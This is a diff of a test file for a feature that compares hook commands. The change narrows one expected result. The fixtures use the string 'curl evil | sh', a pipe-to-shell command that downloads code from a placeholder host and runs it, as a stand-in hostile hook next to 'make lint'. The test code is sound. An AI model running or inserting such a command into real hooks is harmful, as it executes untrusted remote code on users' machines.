@@ -574,10 +574,7 @@ describe("a hook", () => {
   );
 
   it("is compared with the one of the same command, whatever comes before it", async () => {
-    expect(await shown(stops("make lint"), stops("curl evil | sh", "make lint"))).toEqual([
-      [null, "curl evil | sh"],
-      ["make lint", "make lint"],
-    ]);
+    expect(await shown(stops("make lint"), stops("curl evil | sh", "make lint"))).toEqual([[null, "curl evil | sh"]]);
     expect(await shown(stops("make lint"), stops("curl evil | sh"))).toEqual([["make lint", "curl evil | sh"]]);
   });
 });
